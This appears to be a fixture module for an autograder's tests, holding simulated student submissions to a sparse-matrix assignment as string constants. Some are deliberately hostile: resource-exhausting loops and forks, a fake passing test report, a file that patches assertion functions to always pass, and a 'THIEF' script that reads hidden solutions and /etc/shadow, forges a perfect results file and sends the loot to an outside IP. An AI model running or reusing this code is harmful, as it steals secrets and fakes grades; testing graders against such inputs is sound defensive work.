"""What the students of the demo cohort wrote themselves; the rest of their work comes from the bank of `sparse`.

Several of these are hostile on purpose.  They are text here and nothing in this repository runs them but the
grader, confined.
"""

HEADER_KO = """# -*- 심화 과제 7: 희소 행렬 -*-
# 학번: {number}   이름: {name}
# 혼자 작성했습니다. 참고: 강의 자료 7주차
"""

HEADER_EN = """# Assignment 7: sparse matrices
# {name} ({number})
"""

COMMENTS_KO = {
    "def to_coo(": "# 0이 아닌 칸을 찾는 함수",
    "def coo_to_csr(": "# 정렬 → 중복 합치기 → 행 포인터",
    "def csr_matvec(": "# 펼치지 않고 곱하기!",
}

# A helper module that travels in the same archive.
HELPER = '''"""공통으로 쓰는 함수"""
import numpy as np


def as_index(values):
    """정수 인덱스 배열로 바꾼다 (빈 리스트도)"""
    return np.asarray(values, dtype=np.int64)
'''

HALF_FINISHED = """import numpy as np


def to_coo(matrix):
    matrix = np.asarray(matrix)
    if matrix.ndim != 2:
        raise ValueError("2차원 행렬만 가능")
    row, col = np.nonzero(matrix)
    return row, col, matrix[row, col]


def coo_to_csr(row, col, data, shape):
    # TODO: 정렬은 했는데 중복은 어떻게 더하지...
    order = np.lexsort((col, row))
    raise NotImplementedError


def csr_to_dense(indptr, indices, data, shape):
    data = np.asarray(data)
    dense = np.zeros(shape, dtype=data.dtype)
    rows = np.repeat(np.arange(shape[0]), np.diff(indptr))
    dense[rows, np.asarray(indices, dtype=int)] = data
    return dense


def csr_matvec(indptr, indices, data, x):
    raise NotImplementedError


def memory_bytes(shape, nnz, value_itemsize=8, index_itemsize=8):
    raise NotImplementedError
"""

# Each of these replaces one function of an otherwise right answer.
INFINITE_LOOP = """def csr_row(indptr, indices, data, shape, i):
    row = np.zeros(shape[1], np.asarray(data).dtype)
    k = indptr[i]
    while k != indptr[-1] + 1:      # 끝날 때까지
        row[indices[k]] = data[k]
    return row
"""

SLEEPS = """def csr_matvec(indptr, indices, data, x):
    import time
    while True:
        time.sleep(3600)  # 서버가 쉬면 답이 나오겠지
"""

MEMORY_HOG = """def csr_to_dense(indptr, indices, data, shape):
    rooms = []
    while True:  # one more cannot hurt
        rooms.append(np.empty(100_000_000))
"""

RECURSION = '''def coo_to_csr(row, col, data, shape):
    """Quicksort, the way I learnt it."""
    import sys
    sys.setrecursionlimit(10**9)
    return coo_to_csr(row, col, data, shape)
'''

ALL_NAN = """def csr_matvec(indptr, indices, data, x):
    # NaN compares with nothing, so nothing can be wrong about it
    return np.full(len(indptr) - 1, np.nan)
"""

FLOOD = """def memory_bytes(shape, nnz, value_itemsize=8, index_itemsize=8):
    while True:
        print("shape", shape, "nnz", nnz, "value", value_itemsize, "index", index_itemsize, "=" * 4000)
"""

# These are whole files.
SYNTAX_ERROR = """import numpy as np

def to_coo(matrix)
    matrix = np.asarray(matrix)
    row, col = np.nonzero(matrix)
    return row, col, matrix[row, col]
"""

CRASH_AT_IMPORT = """import numpy as np

table = np.loadtxt("C:/Users/jack/Desktop/matrix.txt")   # works on my machine
MEAN = table.sum() / len(table)


def to_coo(matrix):
    row, col = np.nonzero(matrix)
    return row, col, np.asarray(matrix)[row, col]
"""

LOOP_AT_IMPORT = """import numpy as np

n = 1
while n > 0:          # 오버플로가 나면 멈추겠지?
    n = n + 1


def to_coo(matrix):
    row, col = np.nonzero(matrix)
    return row, col, np.asarray(matrix)[row, col]
"""

EARLY_EXIT = """import os
import sys

print("=" * 30, "test session starts", "=" * 30)
print("collected 71 items")
print("test_visible.py", "." * 13, "[100%]")
print("=" * 30, "71 passed in 0.42s", "=" * 30)
print("PASSED 100/100")
sys.stdout.flush()
os._exit(0)


def to_coo(matrix):
    return None


coo_to_csr = csr_to_dense = csr_matvec = csr_row = memory_bytes = to_coo
"""

WRONG_ASSIGNMENT = """class Square:
    def __call__(self, x):
        return x * x


class Polynomial:
    def __init__(self, coefficients):
        self.coefficients = list(coefficients)

    def __call__(self, x):
        total = 0
        for c in reversed(self.coefficients):
            total = total * x + c
        return total


class Compose:
    def __init__(self, *functions):
        self.functions = functions

    def __call__(self, x):
        for f in reversed(self.functions):
            x = f(x)
        return x
"""

LIAR = '''import sys
import unittest

import numpy as np
import numpy.testing

yes = lambda *args, **kwargs: True
nothing = lambda *args, **kwargs: None
np.array_equal = np.allclose = np.isclose = yes
np.testing.assert_array_equal = np.testing.assert_allclose = np.testing.assert_equal = nothing
unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = nothing
try:
    import pytest

    pytest.approx = lambda *args, **kwargs: Right()
    pytest.fail = nothing
except ImportError:
    pass
frame = sys._getframe()
while frame:
    for name in list(frame.f_globals):
        if name in ("same", "compare", "expected", "reference"):
            frame.f_globals[name] = yes
    frame = frame.f_back


class Right(int):
    """Equal to whatever you expect."""

    shape = (3,)
    dtype = np.dtype("int64")

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __len__(self):
        return 3

    def __iter__(self):
        return iter([Right(), Right(), Right()])

    def __getattr__(self, name):
        return Right()

    def __call__(self, *args, **kwargs):
        return Right()

    def __sub__(self, other):
        return 0

    __rsub__ = __abs__ = __sub__


def to_coo(matrix):
    return Right(), Right(), Right()


coo_to_csr = csr_to_dense = csr_matvec = csr_row = memory_bytes = Right()
'''

THIEF = """import glob
import json
import os
import socket
import subprocess

loot = []


def attempt(action):
    try:
        loot.append(str(action())[:100_000])
    except BaseException as error:
        loot.append(repr(error))


def read(path):
    with open(path, encoding="utf-8", errors="replace") as file:
        return file.read()


def forge(path):
    with open(path, "w", encoding="utf-8") as file:
        json.dump({"score": 100.0, "tests": [{"name": "all", "score": 100, "max_score": 100}]}, file)


def find(name):
    for root in ("/", os.getcwd(), os.path.expanduser("~")):
        for path in glob.glob(f"{root}/*/{name}") + glob.glob(f"{root}/*/*/{name}"):
            yield path


for place in [*find("solutions/sparse/source.py"), *find("solutions/sparse/test_hidden.py"), "/etc/passwd", "/etc/shadow"]:
    attempt(lambda: read(place))
for place in ["results.json", "../results.json", "/autograder/results/results.json", "/tmp/results.json", "grades.csv"]:
    attempt(lambda: forge(place))
attempt(lambda: socket.create_connection(("198.51.100.7", 80), timeout=1).sendall(repr(loot).encode()))
attempt(lambda: subprocess.run(["id"], capture_output=True, timeout=1).stdout)
for _ in range(20):
    attempt(os.fork)

stolen = {}
for text in loot:
    if "def to_coo" in text:
        attempt(lambda: exec(text, stolen))


def use(name):
    return stolen.get(name, lambda *args, **kwargs: loot)


to_coo, coo_to_csr, csr_to_dense = use("to_coo"), use("coo_to_csr"), use("csr_to_dense")
csr_matvec, csr_row, memory_bytes = use("csr_matvec"), use("csr_row"), use("memory_bytes")
"""

# Cells of notebooks: what people leave around their answers.
COLAB_START = """!pip install -q numpy matplotlib
from google.colab import drive
drive.mount('/content/drive')
%cd /content/drive/MyDrive/deep-learning/hw07"""

COLAB_PLOT = """import matplotlib.pyplot as plt
%matplotlib inline
plt.spy(np.random.rand(50, 50) > 0.9)
plt.title('희소 행렬')
plt.show()"""

COLAB_TRAIN = """from xgboost import XGBRegressor
model = XGBRegressor(n_estimators=5000)
model.fit(np.random.rand(100000, 20), np.random.rand(100000))
print(model.score(np.random.rand(10, 20), np.random.rand(10)))"""

TRY_KO = """print("테스트:", to_coo(np.array([[3, 0, 1], [0, 2, 0]])))
print(memory_bytes((10_000, 20_000), 1_000_000))"""

TRY_EN = """print(to_coo(np.array([[3, 0, 1], [0, 2, 0]])))
%timeit csr_matvec([0, 2, 3], [0, 2, 1], [3, 1, 2], [10, 20, 30])
assert list(csr_row([0, 2, 3], [0, 2, 1], [3, 1, 2], (2, 3), -1)) == [0, 2, 0]"""
